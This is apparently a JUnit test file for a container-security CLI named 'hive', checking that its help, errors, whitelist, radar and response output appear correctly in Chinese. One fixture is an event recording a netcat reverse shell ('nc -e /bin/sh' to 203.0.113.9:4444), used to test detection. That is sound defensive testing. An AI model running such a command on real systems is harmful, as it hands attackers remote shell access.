package io.hivesec.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.ResourceBundle;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import picocli.CommandLine;
import picocli.CommandLine.Model.CommandSpec;

/** What the command says to who reads Chinese. */
final class ChineseTest {
    private static final String NC = """
            {"type":"process_started","time":"2026-01-02T03:04:05Z","container":{"id":"c1","name":"web-1"},\
            "process":{"pid":70,"executable":"/bin/nc","arguments":["nc","-e","/bin/sh","203.0.113.9","4444"]}}
            """;

    @TempDir
    Path folder;

    static Stream<CommandSpec> commands() {
        return all(HiveCommand.commandLine(new PrintWriter(new StringWriter()), new PrintWriter(new StringWriter())));
    }

    private static Stream<CommandSpec> all(CommandLine command) {
        return Stream.concat(
                Stream.of(command.getCommandSpec()),
                Set.copyOf(command.getSubcommands().values()).stream().flatMap(ChineseTest::all));
    }

    @ParameterizedTest
    @MethodSource("commands")
    void help_ofEveryCommand_isInChinese(CommandSpec command) {
        List<Object> line = new ArrayList<>(List.of(command.qualifiedName().split(" ")));
        line.remove(0);
        line.addAll(List.of("--lang", "zh", "--help"));

        Run run = Run.hive(line.toArray());

        assertThat(run.status()).isZero();
        assertThat(run.out()).startsWith("用法：hive");
        // An English sentence has a few of these words.
        assertThat(run.out().lines()).noneMatch(text -> text.matches(".*\\b(the|of|is|and|this|that)\\b.*"));
        assertThat(Run.hive(line.toArray()).out()).as("twice the same").isEqualTo(run.out());
    }

    @Test
    void help_wordThatNoCommandSays_isNone() {
        Set<String> said = new TreeSet<>();
        commands().forEach(command -> {
            String name = command.qualifiedName(".");
            Stream<String> options = command.options().stream()
                    .map(option -> option.longestName().substring(2));
            Stream<String> parameters =
                    command.positionalParameters().stream().map(one -> one.paramLabel() + "[" + one.index() + "]");
            Stream.concat(Stream.concat(options, parameters), Stream.of("usage.description", "usage.footer"))
                    .forEach(key -> said.addAll(List.of(key, name + "." + key)));
        });
        assertThat(ResourceBundle.getBundle("io.hivesec.examples.cli.help_zh", Locale.ROOT)
                        .keySet())
                .filteredOn(key -> !key.startsWith("mixinStandardHelpOptions.") && !key.startsWith("usage."))
                .isSubsetOf(said);
    }

    @Test
    void help_withoutLanguage_staysEnglish() {
        Run.hive("scan", "--lang", "zh", "--help");
        assertThat(Run.hive("scan", "--help").out()).contains("Judges files").doesNotContain("判定");
    }

    @Test
    void lang_beforeTheCommand_isHeardToo() throws IOException {
        Path events = write("events.jsonl", NC);
        assertThat(Run.hive("--lang", "zh", "watch", events).out())
                .isEqualTo(Run.hive("watch", "--lang", "zh", events).out())
                .contains("反弹 Shell");
    }

    @ParameterizedTest
    @CsvSource({
        "zh_CN.UTF-8,,, zh",
        ", zh_TW.UTF-8,, zh",
        ",, zh_CN.UTF-8, zh",
        "en_US.UTF-8,, zh_CN.UTF-8, en",
        "C.UTF-8,, zh_CN.UTF-8, en",
        ",, fr_FR.UTF-8, en",
        ",,, zh"
    })
    void language_ofTheEnvironment_isThatOfTheFirstVariable(String all, String messages, String lang, String language) {
        Map<String, String> environment = Map.of(
                "LC_ALL", all == null ? "" : all,
                "LC_MESSAGES", messages == null ? "" : messages,
                "LANG", lang == null ? "" : lang);
        assertThat(Languages.ofEnvironment(environment, Locale.SIMPLIFIED_CHINESE)
                        .getLanguage())
                .isEqualTo(language);
    }

    @Test
    void language_ofTheLauncher_goesBeforeTheLocaleThatItHadToChange() {
        assertThat(Languages.ofEnvironment(Map.of("HIVE_LANG", "zh_CN.UTF-8", "LC_ALL", "C.UTF-8"), Locale.ENGLISH))
                .isEqualTo(Locale.CHINESE);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "scan nowhere | nowhere：没有这个文件",
                "scan | 缺少必需的参数：'PATH'",
                "scan --formt json . | 没有选项“--formt”",
                "scan --formt json . | 您是否想输入 --format？",
                "what | 没有命令“what”",
                "scan --format what . | 选项“--format”的值无效：应为 [TEXT, JSON, JSONL, SARIF, OCSF, HTML, CSV] 之一，而不是“what”",
                "radar --port what | 选项“--port”的值无效：“what”不是数字",
                "radar --since what | --since：不是形如 2026-01-02T03:04:05Z 的时间：“what”",
                "watch --for 1s | --for：只能与 --live 一起使用",
                "watch --for 1x --live | 选项“--for”的值无效：“1x”不是形如 500ms、30s、5m 或 2h 的时长",
                "respond plan | 缺少必需的参数，请指定其中之一：",
                "respond plan --container c --with what | 没有处置方式“what”；可用的有 container.isolate",
                "respond journal --state /nowhere | /nowhere 中没有日志",
                "whitelist check nowhere | nowhere：没有这个文件",
            })
    void failure_isToldInChinese(String line, String said) {
        Run run = Run.hive(Stream.concat(Stream.of(line.split(" ")), Stream.of("--lang", "zh"))
                .toArray());
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("hive: " + said);
    }

    @Test
    void whitelist_isToldInChinese() throws IOException {
        Path alerts = folder.resolve("alerts.jsonl");
        Run.hive("watch", "--alerts", alerts, write("events.jsonl", NC));
        Run suggested = Run.hive("whitelist", "suggest", "--lang", "zh", "--creator", "ann", "--alerts", alerts);
        assertThat(suggested.err()).contains("此进程树，连接此目标和端口");
        Path rules = write("rules.json", suggested.out());

        assertThat(Run.hive("whitelist", "check", "--lang", "zh", "--against", alerts, rules)
                        .out())
                .contains("会使 1 条 reverse_shell 告警中的 1 条静默（100 %），告警共 1 条")
                .contains("4 条规则，没有问题");
        assertThat(Run.hive("whitelist", "explain", "--lang", "zh", "--alerts", alerts, rules)
                        .out())
                .startsWith("告警 ")
                .containsPattern("规则“.+”放行：用户“ann”于 .+ 添加此规则");
        Path others =
                write("others.json", suggested.out().replace("4444", "4445").replace("/bin/nc", "/bin/nz"));
        assertThat(Run.hive("whitelist", "explain", "--lang", "zh", "--alerts", alerts, others)
                        .out())
                .contains("不放行：")
                .contains("告警为 '4444'，规则要求 '4445'");
    }

    @Test
    void radar_isToldInChinese() throws IOException {
        Path events = write("events.jsonl", """
                {"type":"network_connected","time":"2026-01-02T03:04:05Z","container":{"id":"c1","name":"web-1"},\
                "process":{"pid":70,"executable":"/bin/nc"},"descriptor":3,"protocol":"tcp",\
                "target":{"address":"203.0.113.9","port":4444}}
                """);
        assertThat(Run.hive("radar", "--lang", "zh", events).out())
                .contains("2026-01-02T03:04:05Z 至 2026-01-02T03:04:05Z 1 次")
                .contains("1 条访问关系，0 次突发。");
    }

    @Test
    void respond_planOfAFile_isToldInChinese() throws IOException {
        Path file = write("upload.php", "<?php");
        Run run = Run.hive("respond", "plan", "--lang", "zh", "--file", file, "--with", "file.quarantine");
        assertThat(run.out())
                .contains("file.quarantine（可撤销），针对告警 ")
                .contains("  前提：是同一个普通文件，内容未变")
                .contains("  第 1 步：隔离文件")
                .contains("  影响范围：任何打开 ")
                .contains("  完成标志：原文件名已空出，且隔离副本完整");
    }

    @Test
    void scan_whatCouldNotBeJudged_isToldInChinese() throws IOException {
        Path jar = write("damaged.jar", "PK\u0003\u0004 is all there is");
        assertThat(Run.hive("scan", "--lang", "zh", jar).out()).contains("“virus”处理“" + jar + "”失败：引擎“own”未查完：");
    }

    private Path write(String name, String text) throws IOException {
        return Files.writeString(folder.resolve(name), text);
    }
}
